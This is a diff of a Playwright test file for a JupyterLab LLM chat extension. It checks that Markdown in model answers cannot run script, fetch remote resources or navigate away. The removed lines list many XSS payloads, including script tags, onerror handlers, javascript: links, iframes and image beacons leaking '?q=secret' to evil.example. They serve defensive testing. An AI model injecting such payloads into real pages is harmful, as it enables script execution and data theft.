@@ -2,42 +2,27 @@
 
 from __future__ import annotations
 
-from playwright.async_api import Page, expect
+import asyncio
+import re
+from collections.abc import AsyncIterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest_asyncio
+from playwright.async_api import Browser, Page, Route, expect
+
+from tests.providers.wire_server import WireServer
 
 from .panel import Panel
+from .payloads import HOST, MATHEMATICS, MERMAID, PAYLOADS, written
 from .visitor import Visitor
 
-RUN = "window.pwned=1"
-EVIL = "http://evil.example"
-PAYLOADS = (
-    f"<script>{RUN}</script>",
-    f'<img src="x" onerror="{RUN}">',
-    f"<svg onload='{RUN}'><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>svg link</text></a></svg>",
-    f"[a link](javascript:{RUN}) and <a href='JaVa&#10;Script:{RUN}'>another</a> and [third](vbscript:{RUN})",
-    f"<a href='data:text/html,<script>{RUN}</script>'>a data link</a> [one more](data:text/html;base64,PHNjcmlwdD4=)",
-    f"<form action='{EVIL}/form'><input name='q' value='secret' autofocus onfocus='{RUN}'><button>Send</button></form>",
-    f"<iframe src='{EVIL}/frame'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
-    f"<style>@import '{EVIL}/x.css'; body {{ display: none }}</style><link rel='stylesheet' href='{EVIL}/y.css'>",
-    f"<div style='position:fixed;inset:0;background:url({EVIL}/bg.png)'>a cover</div>",
-    "<button data-commandlinker-command='llmhub:new-chat' data-commandlinker-args='{}'>A command</button>"
-    "<a href='#' data-commandlinker-command='llmhub:new-chat'>A command link</a>",
-    f"![a picture]({EVIL}/leak.png?q=secret) <img src='{EVIL}/leak2.png' srcset='{EVIL}/leak3.png 2x' alt='two'>",
-    f"<picture><source srcset='{EVIL}/p.png'></picture><video src='{EVIL}/v.mp4' poster='{EVIL}/v.png' autoplay></video>",
-    f"<meta http-equiv='refresh' content='0;url={EVIL}/'><base href='{EVIL}/'>",
-    f"<object data='{EVIL}/o'></object><embed src='{EVIL}/e'>",
-    f"<details open ontoggle='{RUN}'><summary>open</summary></details><marquee onstart='{RUN}'>m</marquee><body onload='{RUN}'>",
-    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
-    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
-    f"$\\href{{javascript:{RUN}}}{{x}}$ and $$\\style{{background:url({EVIL}/m.png)}}{{y}} \\unicode{{x41}}$$",
-    "$\\require{html}\\cssId{jp-top-panel}{a}\\class{jp-Dialog}{b}$ <a id='jp-main-dock-panel' name='pwned'>id</a>",
-    f'```js"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
-    f"> ```mermaid\n> graph TD; A[\"<img src='{EVIL}/mm.png' onerror='{RUN}'>\"]; click A \"javascript:{RUN}\"\n> ```",
-    f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n|---|---|\n| <iframe src='{EVIL}/t'></iframe> | ![t]({EVIL}/t.png) |",
-    f"[ref]\n\n[ref]: javascript:{RUN}\n\n<{EVIL}/auto> <javascript:{RUN}>",
-)
+FRONT = Path(__file__).parents[2] / "labextension"
+# What runs says its number here.
+WATCH = "void (window.ran = number => void (window.ranAlready ??= []).push(number))"
 CLICK = """root => {
   for (const each of root.querySelectorAll('.jp-llmhub-markdown :is(a, mjx-container *, summary, input)')) {
-    if (!/^https?:/.test(each.href ?? '')) each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
+    if (!/^(https?|mailto):/.test(each.href ?? '')) each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
   }
 }"""
 OURS = ".jp-llmhub-load, .jp-llmhub-file-link, .jp-llmhub-sort, .jp-llmhub-icon-button"
@@ -46,42 +31,72 @@ FORBIDDEN = (
     "video, audio, source"
 )
 HANDLERS = "*[onerror], *[onload], *[onclick], *[onfocus], *[ontoggle], *[onstart], *[data-commandlinker-command]"
+# What the page asks of its own server by itself, whatever anybody says.
+EXPECTED = re.compile(r"/(llmhub|api|static|lab/extensions|lab/api|lsp)/|^data:|^blob:")
 
 
-async def test_nothing_that_a_model_says_runs_or_leaves_this_machine(visitor: Visitor, panel: Panel):
+def one_line(text: str) -> str:
+    return re.sub(r"\s*\n\s*", " ", text)
+
+
+def title(text: str) -> str:
+    return one_line(text).replace("\\", "\\\\").replace('"', '\\"')
+
+
+TEXTS = written()
+PLACES = {
+    "by themselves": "\n\n---\n\n".join(TEXTS),
+    "in quotes": "\n\n".join("> " + text.replace("\n", "\n> ") for text in TEXTS),
+    "in lists": "\n".join(f"- item\n  {text}".replace("\n", "\n  ") for text in TEXTS),
+    "in tables": "| a | b |\n|---|---|\n" + "\n".join(f"| {one_line(text)} | x |" for text in TEXTS),
+    "as titles of links": "\n\n".join(
+        f'[x](https://a.example "{title(text)}") ![y](https://a.example "{title(text)}")' for text in TEXTS
+    ),
+}
+
+
+async def test_nothing_that_a_model_says_runs_or_leaves_this_machine(visitor: Visitor, panel: Panel, wire: WireServer):
     popups: list[Page] = []
     visitor.context.on("page", lambda page: popups.append(page))
     address = panel.page.url
+    before = len(visitor.requests)
+    await panel.page.evaluate(WATCH)
     await panel.choose("lab/echo")
-    for count, payload in enumerate(PAYLOADS, 1):
-        await panel.send(f"{payload}\n\nend {count}")
-        await expect(panel.answer).to_have_attribute("data-status", "complete")
-        await is_inert(panel)
+    for place, text in PLACES.items():
+        wire.lines[place] = f"{text}\n\nthe end, {place}"
+        await panel.send(place)
+        await is_inert(panel, f"the end, {place}")
     conversation = await panel.conversation_id()
-
-    # All of it in small pieces, so that tags and links stand half written for a while.
-    await panel.send("\n\n".join((*PAYLOADS, "the end")), "lab/drip")
-    await expect(panel.answer).to_contain_text("the end")
-    await expect(panel.answer).to_have_attribute("data-status", "complete")
+    # Sign by sign, so that tags, links and formulas stand half written in all the ways they can; and as thoughts.
+    for model, place in {"letters": "sign by sign", "thinks": "thought"}.items():
+        wire.lines[place] = f"{PLACES['by themselves']}\n\nthe end, {place}"
+        await panel.send(place, f"lab/{model}")
+        await is_inert(panel, f"the end, {place}")
+    await panel.get("reasoning").last.get_by_role("button").first.click()
     await is_inert(panel)
 
     # The same in words of an error, in a title and in the list.
     await panel.get("new-chat").click()
-    await panel.send(PAYLOADS[1], "lab/echo-key")
+    await panel.send(TEXTS[3], "lab/echo-key")
     await expect(panel.get("error")).to_be_visible()
     await panel.get("list-toggle").click()
     await expect(panel.get("conversation-item").first).to_be_visible()
     await is_inert(panel)
 
+    asked = [request.url for request in visitor.requests[before:]]
+    assert [url for url in asked if not EXPECTED.search(url)] == []
     assert panel.page.url == address
     assert not popups
     assert conversation != await panel.conversation_id()
 
 
-async def is_inert(panel: Panel) -> None:
+async def is_inert(panel: Panel, end: str = "") -> None:
     """Click whatever in the answers could be clicked; then nothing has run, and nothing is there that could."""
+    if end:
+        await expect(panel.answer).to_contain_text(end)
+        await expect(panel.answer).to_have_attribute("data-status", "complete")
     await panel.root.evaluate(CLICK)
-    assert await panel.page.evaluate("window.pwned") is None
+    assert await panel.page.evaluate("window.ranAlready") is None
     said = panel.root.locator(".jp-llmhub-markdown .jp-llmhub-prose")
     assert await said.locator(FORBIDDEN).count() == 0
     assert await panel.root.locator(HANDLERS).count() == 0
@@ -94,8 +109,95 @@ async def is_inert(panel: Panel) -> None:
     await expect(panel.get("title")).to_be_visible()
 
 
+class Bench:
+    """A page with our Markdown in it and nothing else. It notes who ran, and who asked or went anywhere; nothing leaves it."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.seen: set[int] = set()
+        self.others: list[str] = []
+
+    async def open(self) -> None:
+        async def serve(route: Route) -> None:
+            url = urlsplit(route.request.url)
+            if url.hostname == "bench.example" and url.path == "/":
+                await route.fulfill(body="<!doctype html><title>Bench</title><body>", content_type="text/html")
+                return
+            payload = re.fullmatch(rf"p(\d+)\.{re.escape(HOST)}", url.hostname or "")
+            if payload:
+                self.seen.add(int(payload[1]))
+            else:
+                self.others.append(route.request.url)
+            await route.abort()
+
+        self.page.context.on("page", lambda page: self.others.append(f"a window: {page.url}"))
+        self.page.on("dialog", lambda dialog: self.others.append(f"a dialog: {dialog.message}"))
+        await self.page.context.route("**/*", serve)
+        await self.page.goto("http://bench.example/")
+        await self.page.evaluate(WATCH)
+        process = await asyncio.create_subprocess_exec(
+            *(FRONT / "node_modules/.bin/esbuild", FRONT / "tests/support/prefixes.ts", "--bundle", "--format=iife"),
+            stdout=asyncio.subprocess.PIPE,
+        )
+        script, _ = await process.communicate()
+        assert process.returncode == 0
+        await self.page.evaluate(script.decode())
+
+    async def fired(self) -> set[int]:
+        """Who ran, asked or went anywhere up to now."""
+        return self.seen | set(await self.page.evaluate("window.ranAlready ?? []"))
+
+
+@pytest_asyncio.fixture(loop_scope="package")
+async def bench(browser: Browser) -> AsyncIterator[Bench]:
+    context = await browser.new_context()
+    bench = Bench(await context.new_page())
+    await bench.open()
+    yield bench
+    await context.close()
+
+
+async def test_nothing_runs_or_asks_wherever_the_stream_is_cut(bench: Bench):
+    drawn = 0
+    for number, text in enumerate(TEXTS):
+        found = await bench.page.evaluate("text => prefixes.everyPrefix(text)", f"{text}\n\nafter")
+        assert found["faults"] == [], PAYLOADS[number]
+        drawn += found["drawn"]
+    assert drawn > 5000
+    assert await bench.fired() == set()
+    assert bench.others == []
+    assert bench.page.url == "http://bench.example/"
+
+
+async def test_the_same_does_run_and_ask_where_nobody_takes_care(bench: Bench):
+    careless = await bench.page.evaluate("texts => texts.map(prefixes.careless)", TEXTS)
+    # Each in a document of its own, in which everything is clicked that can be.
+    await bench.page.evaluate(
+        """documents => Promise.all(documents.map(({html}) => new Promise(done => {
+          const frame = document.createElement('iframe');
+          frame.addEventListener('load', async () => {
+            const clickable = frame.contentDocument?.querySelectorAll('a, button, summary, [onclick], input[type=submit]') ?? [];
+            for (const one of clickable) {
+              one.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
+              await new Promise(setTimeout);
+            }
+            done();
+          }, {once: true});
+          frame.srcdoc = `<!doctype html><body>${html}`;
+          document.body.append(frame);
+        })))""",
+        careless,
+    )
+    async with asyncio.timeout(20):
+        while len(await bench.fired()) < 45:
+            await bench.page.evaluate("new Promise(requestAnimationFrame)")
+    harmless = [number for number, each in enumerate(careless) if not each["faults"]]
+    others = {*MERMAID, *MATHEMATICS}  # for whom it takes more than a browser
+    assert len([number for number in harmless if PAYLOADS[number] not in others]) <= 3, [PAYLOADS[number] for number in harmless]
+
+
 async def test_the_watch_over_the_network_sees_what_it_should(visitor: Visitor, panel: Panel):
     async with panel.page.expect_event("requestfailed"):
-        await panel.page.evaluate(f"new Image().src = '{EVIL}/seen.png'")
-    assert visitor.strays == [f"{EVIL}/seen.png"]
+        await panel.page.evaluate(f"new Image().src = 'http://{HOST}/seen.png'")
+    assert visitor.strays == [f"http://{HOST}/seen.png"]
     visitor.strays.clear()
